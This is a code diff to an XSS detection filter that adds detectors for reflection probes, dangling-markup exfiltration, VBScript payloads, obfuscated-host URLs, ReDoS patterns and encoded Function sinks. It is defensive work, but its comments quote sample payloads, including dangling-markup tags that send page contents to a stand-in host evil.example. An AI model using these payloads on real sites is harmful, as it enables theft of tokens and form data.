@@ -1,4 +1,5 @@
 import { decodeEntities } from '../decode/entities';
+import { parseIpv4Loose } from './address-scope';
 import { type HtmlAttr, readAttributes, readTagAt } from './html-tokens';
 import { isTaglessScript } from './js-tokens';
 
@@ -22,6 +23,9 @@ export function isXss(value: string): boolean {
     if (blank !== value && (LONE_SCRIPT_CALL.test(blank) || scriptCode(blank))) return true;
   }
   if (value.includes('document') && DOM_CONTENT_WRITE.test(value)) return true;
+  if (value.includes('(') && VBSCRIPT_CODE.test(value)) return true;
+  if (value.includes('//') && DANGLING_URL.test(value)) return true;
+  if (REFLECTION_PROBE.test(value)) return true;
   if (value.includes('chemaLocation') && isForeignSchemaLocation(value)) return true;
   // JavaScript reads a comment as a blank: `document /*x*/ . cookie`, `self[/*x*/"alert"](1)`.
   if (value.includes('/*') && scriptCode(value.replace(/\/\*[^]{0,200}?\*\//g, ' '))) return true;
@@ -92,6 +96,40 @@ const UTF7_TAG = /(?:\+|%2b)ADw-\s*\/?(?:script|img|svg|iframe|body|html|style|a
 export function isUtf7Markup(value: string): boolean {
   return UTF7_TAG.test(value);
 }
+
+/**
+ * The probe that asks which characters a page reflects unescaped: a value that opens with quotes,
+ * then what ends a statement, comment or tag (`>`, `;`, `!`), then an element of its own
+ * with no attributes, a marker to look for in the page (`a'"><injectable>`, `'';!--"<XSS>=&{()}`).
+ * Text quoting markup (`"<b>bold</b>"`) has nothing between its quote and the tag, editor HTML does
+ * not open with a quote, and markup copied from a page after a stray quote has attributes
+ * (`V1_OTHER_1"><IMG CLASS="SIZE-FULL ...`, libinjection's false-positive list).
+ */
+const REFLECTION_PROBE = /^\s*\w{0,12}['"`]{1,3}[^<\w\s]{0,8}?[>;!][^<\w\s]{0,8}\s{0,3}<[a-z][\w:-]{0,20}\s{0,3}\/?>/i;
+
+/**
+ * Dangling markup: after what closes the page's attribute or tag, a tag whose URL attribute opens a
+ * quote, names another host and is never closed (`"><img src='//evil.example/log?`,
+ * `'><table background='https://evil.example/?`): the browser
+ * takes the page's own text up to its next quote as the rest of the URL's query and sends it there
+ * (tokens, form values), with no script at all. A whole tag (`<img src="https://cdn.example/a.png">`)
+ * closes its quote, a link cut short without a query (`<a href="https://example.com/page`) has
+ * nowhere to carry the page, and a post cut short in a link (`Here's a video: <a href="https://...?v=`,
+ * a CRS false-positive test) breaks out of nothing.
+ */
+const DANGLING_URL =
+  /^\s*(?:['"`]\s*)?\/?>\s*<[a-z][\w-]{0,20}(?:\s[^<>]{0,200})?\s(?:src|href|action|formaction|background|poster|data|cite|ping|lowsrc|dynsrc)\s*=\s*(['"])\s*(?:[a-z][\w+.-]{0,20}:)?\/\/[^'"\s<>?]{1,300}\?[^'"\s<>]{0,100}$/i;
+
+/**
+ * VBScript, which Internet Explorer runs in `vbscript:` URLs and `<script language=vbscript>`: a
+ * message box given a string, a `Chr()` or the document (`MsgBox("XSS")`, `msgbox(document.cookie)`),
+ * `Execute` given a message box or character codes (`Execute(MsgBox(chr(88)&chr(83)))`), and a
+ * string built from character codes joined by `&` (`chr(88)&chr(83)`, VBScript's
+ * `String.fromCharCode`). Case-insensitive, as VBScript reads names. `MsgBox "Hello"` of a VBA
+ * forum post (no parenthesis), `MsgBox(x)` of a variable and a lone `Chr(10)` are not.
+ */
+const VBSCRIPT_CODE =
+  /(?:^|[^\w$.])(?:msgbox\s*\(\s*(?:["']|chrw?\s*\(|document\s*\.)|execute(?:global)?\s*\(\s*(?:msgbox\b|chrw?\s*\())|\bchrw?\s*\(\s*\d{1,5}\s*\)\s*&\s*chrw?\s*\(\s*\d/i;
 
 /**
  * A tag whose name is spelled with spaces between its letters (`<f o r m`, `<d i a l o g`) or after
@@ -189,6 +227,8 @@ const SCRIPT_TAGS = new Set([
   'layer',
   'ilayer',
   'bgsound',
+  // Embeds another page like an iframe (Chrome's portals).
+  'portal',
 ]);
 const URL_ATTRS = new Set([
   'href',
@@ -263,12 +303,66 @@ function dangerousAttr(a: HtmlAttr, strict: boolean): boolean {
     return !strict || EVENTS.has(name.slice(2));
   }
   if (a.value === null) return false;
-  if (URL_ATTRS.has(name) && isScriptUrl(a.value)) return true;
+  if (URL_ATTRS.has(name) && (isScriptUrl(a.value) || isDisguisedUrl(a.value))) return true;
+  // A submit button that sends the page's form elsewhere: no editor or user content writes one.
+  if (name === 'formaction') return /^\s*(?:[a-z][\w+.-]{0,20}:)?\/\//i.test(decodeEntities(a.value));
   if (name === 'srcdoc') return /<[a-z]/i.test(decodeEntities(a.value));
   if (name === 'style')
     return /expression\(|javascript:|-moz-binding|behaviou?r:|binding:/i.test(compact(decodeCssEscapes(decodeEntities(a.value))));
+  // An input's pattern with a quantified group that holds a quantifier (`^((a+.)a)+$`): the
+  // browser's regular expression backtracks without end on a long value (ReDoS); a format
+  // (`[0-9]{5}`, `[a-z]+@[a-z]+`) has no such group.
+  if (name === 'pattern') return hasNestedQuantifier(a.value);
+  // XML Events (`ev:event="load" ev:handler="#x"`): a handler bound by markup, no `on*` attribute needed.
+  if (/^[\w-]{1,20}:handler$/.test(name)) return true;
   // IE data binding renders the bound source as HTML.
   return name === 'dataformatas' && /html/i.test(a.value);
+}
+
+/**
+ * A link whose host is written so that a filter of hosts misses it and the browser still goes there:
+ * tabs or line breaks inside the scheme or host, which browsers drop (`h\tt\tp://6\t6.000146.0x7.147/`);
+ * an IPv4 address as one number, in hex or octal parts (`http://1113982867/`,
+ * `http://0x42.0x0000066.0x7.0x93/`, `http://0102.0146.0007.00000223/`); a percent-encoded host
+ * (`http://%77%77%77%2E...`); user info that is itself a host name (`http://ha.ckers.org@google`).
+ * Read with the address reader ssrf uses (address-scope.ts). Links to a name or a dotted address
+ * (`http://192.168.1.1/`), and `user@host` credentials, are not.
+ */
+function isDisguisedUrl(raw: string): boolean {
+  const v = decodeEntities(raw).trim();
+  const m = /^([a-z][\w+.\t\r\n-]{0,20}):[\t\r\n]*\/[\t\r\n]*\/([^/?#\s]{0,300})/i.exec(v);
+  if (m === null) return false;
+  if (/[\t\r\n]/.test(m[0])) return true;
+  const authority = m[2];
+  const at = authority.lastIndexOf('@');
+  const host = authority
+    .slice(at + 1)
+    .replace(/:\d{0,5}$/, '')
+    .toLowerCase();
+  if (/%[0-9a-f]{2}/i.test(host)) return true;
+  if (at > 0 && /^[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){2,}$/i.test(authority.slice(0, at))) return true;
+  return (
+    /^[0-9a-fx.]+$/.test(host) &&
+    !/^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) &&
+    /\d{5,}|0x|(?:^|\.)0\d/.test(host) &&
+    parseIpv4Loose(host) !== null
+  );
+}
+
+/** A group quantified by `+`, `*` or `{n,}` that holds a quantifier itself (`(a+)+`, `((a+.)a)+`, `(\w*)*`). */
+function hasNestedQuantifier(p: string): boolean {
+  if (p.length > 512) return false;
+  const open: number[] = [];
+  for (let i = 0; i < p.length; i++) {
+    const c = p[i];
+    if (c === '\\') i++;
+    else if (c === '(') open.push(i);
+    else if (c === ')' && open.length > 0) {
+      const from = open.pop() as number;
+      if (/^[+*]|^\{\d{1,4},/.test(p.slice(i + 1, i + 8)) && /[+*]|\{\d{1,4},/.test(p.slice(from + 1, i))) return true;
+    }
+  }
+  return false;
 }
 
 /** CSS escapes (`\28` is "(") as the style parser reads them. */
@@ -339,10 +433,11 @@ function compact(v: string): string {
  * Calls of the functions payloads use, case-sensitive like JavaScript itself (`Function(` is the
  * constructor, "function(" is not): direct, parenthesised `(alert)(1)`, optional `alert?.()`,
  * tagged templates `` alert`1` `` and `.call/.apply/.bind`. Timers and the Function constructor
- * only with code as a string (`setTimeout(resolve, 10)` is ordinary code).
+ * only with code as a string or decoded from one (`Function(atob('...'))`; `setTimeout(resolve, 10)`
+ * is ordinary code).
  */
 const SINK_CALL =
-  /(?:^|[^\w$.])(?:(?:alert|confirm|prompt|eval|execScript)\)?(?:\?\.)?(?:\((?!\s*$)|`[^`\s][^`\n]{0,40}`|\.(?:call|apply|bind)\()|(?:setTimeout|setInterval|Function)\s*\(\s*['"`])/;
+  /(?:^|[^\w$.])(?:(?:alert|confirm|prompt|eval|execScript)\)?(?:\?\.)?(?:\((?!\s*$)|`[^`\s][^`\n]{0,40}`|\.(?:call|apply|bind)\()|(?:setTimeout|setInterval|Function)\s*\(\s*(?:['"`]|(?:atob|unescape|decodeURI(?:Component)?|(?:String\s*\.\s*)?fromCharCode)\s*\())/;
 const DOM_ACCESS =
   /\.\s*(?:call|apply)\s*`|\bdocument\s*\)?\s*(?:\.\s*(?:cookie|domain|write|location)\b|\[\s*["'`](?:cookie|domain|write|location))|\bString\s*\.\s*fromCharCode\s*\(|\bwindow\s*\.\s*location(?:\s*\.\s*href)?\s*=|\.constructor\s*\(\s*["'`]|\b(?:top|self|parent|window)\s*\[\s*["'`][\w$\\]+["'`]\s*(?:\+|\])/i;
 
